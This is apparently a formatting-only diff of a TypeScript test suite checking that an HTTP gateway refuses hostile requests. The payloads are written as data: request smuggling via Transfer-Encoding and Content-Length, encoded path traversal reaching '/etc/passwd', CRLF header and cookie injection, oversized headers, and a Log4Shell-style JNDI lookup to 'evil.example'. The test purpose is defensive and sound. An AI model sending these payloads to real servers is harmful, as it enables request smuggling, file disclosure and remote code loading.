@@ -65,9 +65,7 @@ const SMUGGLING: Record<string, Attack> = {
   "a coding before another": refused(
     areas("Host: x", "Transfer-Encoding: chunked, identity") + `0\r\n\r\n${SMUGGLED}`,
   ),
-  "a coding after nothing": refused(
-    areas("Host: x", "Transfer-Encoding: ,chunked") + `0\r\n\r\n${SMUGGLED}`,
-  ),
+  "a coding after nothing": refused(areas("Host: x", "Transfer-Encoding: ,chunked") + `0\r\n\r\n${SMUGGLED}`),
   "no coding": refused(areas("Host: x", "Transfer-Encoding: identity") + SMUGGLED),
   "an empty coding": refused(areas("Host: x", "Transfer-Encoding: ") + SMUGGLED),
   "two codings": refused(
@@ -84,10 +82,7 @@ const SMUGGLING: Record<string, Attack> = {
     `${areas("Host: x", "Transfer-Encoding: chunked")}0\n\n${SMUGGLED}`,
     "/areas",
   ),
-  "a request behind content": served(
-    `${areas("Host: x", "Content-Length: 3")}abc${SMUGGLED}`,
-    "/areas",
-  ),
+  "a request behind content": served(`${areas("Host: x", "Content-Length: 3")}abc${SMUGGLED}`, "/areas"),
   "a request behind content in chunks": served(
     `${areas("Host: x", "Transfer-Encoding: Chunked")}0\r\n\r\n${SMUGGLED}`,
     "/areas",
@@ -140,10 +135,7 @@ const BROKEN: Record<string, Attack> = {
   "a URL beyond all measure": refused(target(`/areas?q=${"a".repeat(200_000)}`), 414),
   "headers that are too large": refused(areas("Host: x", `A: ${"a".repeat(16_384)}`), 431),
   "headers beyond all measure": refused(areas("Host: x", `A: ${"a".repeat(200_000)}`), 431),
-  "too many headers": refused(
-    areas("Host: x", ...Array.from({ length: 100 }, (_, n) => `A-${n}: b`)),
-    431,
-  ),
+  "too many headers": refused(areas("Host: x", ...Array.from({ length: 100 }, (_, n) => `A-${n}: b`)), 431),
   "far too many headers": refused(
     areas("Host: x", ...Array.from({ length: 4_000 }, (_, n) => `A${n}:`)),
     431,
@@ -205,7 +197,7 @@ const ADDRESSED: Record<string, Attack> = {
 
 /** With `/areas/*` passed through: the one place where a caller's own path reaches the upstream. */
 const PATHS: Record<string, Attack> = {
-  "up": refused(target("/areas/../sold"), 404),
+  up: refused(target("/areas/../sold"), 404),
   "up, encoded": refused(target("/areas/%2e%2e/sold"), 404),
   "up, encoded by half": refused(target("/areas/.%2E/sold"), 404),
   "up, the slashes encoded": refused(target("/areas/x%2f..%2f..%2fsold"), 404),
@@ -213,7 +205,7 @@ const PATHS: Record<string, Attack> = {
   "up, with encoded backslashes": refused(target("/areas/x%5c..%5csold"), 404),
   "up, in UTF-8 that is too long": refused(target("/areas/%c0%ae%c0%ae/sold"), 404),
   "up, in an absolute URL": refused(target("http://evil.example/areas/../../sold"), 404),
-  "here": refused(target("/areas/./near"), 404),
+  here: refused(target("/areas/./near"), 404),
   "up, from the thumbnails": refused(target("/cache/../../etc/passwd"), 404),
   "up, within a thumbnail": refused(target("/cache/primary_..%2f1_10x10.jpg"), 404),
   "up, from a record": refused(target("/listings/1/../../sold"), 404),
@@ -226,7 +218,7 @@ const ENCODED: Record<string, readonly [path: string, upstream: string]> = {
   "up, with a parameter": ["/areas/..;/near", "/areas/..%3B/near"],
   "a line's end": ["/areas/%0d%0aX-Evil:%20yes/near", "/areas/%0D%0AX-Evil%3A%20yes/near"],
   "a whole request": ["/areas/%20HTTP/1.1%0d%0aHost:%20x", "/areas/%20HTTP/1.1%0D%0AHost%3A%20x"],
-  "NUL": ["/areas/%00/near", "/areas/%00/near"],
+  NUL: ["/areas/%00/near", "/areas/%00/near"],
   "a query": ["/areas/x%3fa=b%26c%23d/near", "/areas/x%3Fa%3Db%26c%23d/near"],
   "a fragment": ["/areas/x#y/near", "/areas/x%23y/near"],
 };
@@ -241,7 +233,10 @@ function statusesIn(raw: string): number[] {
   return statuses;
 }
 
-async function expectHarmless(gateway: TestGateway, { bytes, answers, upstream = [] }: Attack): Promise<void> {
+async function expectHarmless(
+  gateway: TestGateway,
+  { bytes, answers, upstream = [] }: Attack,
+): Promise<void> {
   // Who says that nothing more follows is not waited for; but neither is who asked something.
   const raw = await exchangeRaw(gateway.port, Buffer.from(bytes, "latin1"), { end: upstream.length === 0 });
   expect(statusesIn(raw)).toEqual(answers);
@@ -279,23 +274,30 @@ describe("what a caller says of itself", () => {
     "${jndi:ldap://evil.example/a}",
     "e".repeat(129),
   ];
-  it.each(["X-Request-Id", "X-App-Id", "User-Agent", "Prefer", "Accept-Language", "Referer", "X-Private-Key"])(
-    "in %s does not get into the log, the answer or what is asked upstream",
-    async (name) => {
-      const gateway = await startGateway();
-      for (const [index, value] of EVIL.entries()) {
-        const request = `GET /areas?q=${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
-        const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
-        expect(statusesIn(raw)).toEqual([200]);
-        expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
-      }
-      await expect.poll(() => gateway.log.filter((line) => line.includes('"msg":"request"')).length).toBe(EVIL.length);
-      expect(gateway.log.join("")).not.toMatch(/evil|e{129}|jndi/);
-      const requests = gateway.sandbox.requests();
-      expect(requests).toHaveLength(EVIL.length);
-      for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
-    },
-  );
+  it.each([
+    "X-Request-Id",
+    "X-App-Id",
+    "User-Agent",
+    "Prefer",
+    "Accept-Language",
+    "Referer",
+    "X-Private-Key",
+  ])("in %s does not get into the log, the answer or what is asked upstream", async (name) => {
+    const gateway = await startGateway();
+    for (const [index, value] of EVIL.entries()) {
+      const request = `GET /areas?q=${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
+      const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
+      expect(statusesIn(raw)).toEqual([200]);
+      expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
+    }
+    await expect
+      .poll(() => gateway.log.filter((line) => line.includes('"msg":"request"')).length)
+      .toBe(EVIL.length);
+    expect(gateway.log.join("")).not.toMatch(/evil|e{129}|jndi/);
+    const requests = gateway.sandbox.requests();
+    expect(requests).toHaveLength(EVIL.length);
+    for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
+  });
 
   it.each([
     ["the path of nothing", "/%0d%0aSet-Cookie:%20evil=1", 404, []],
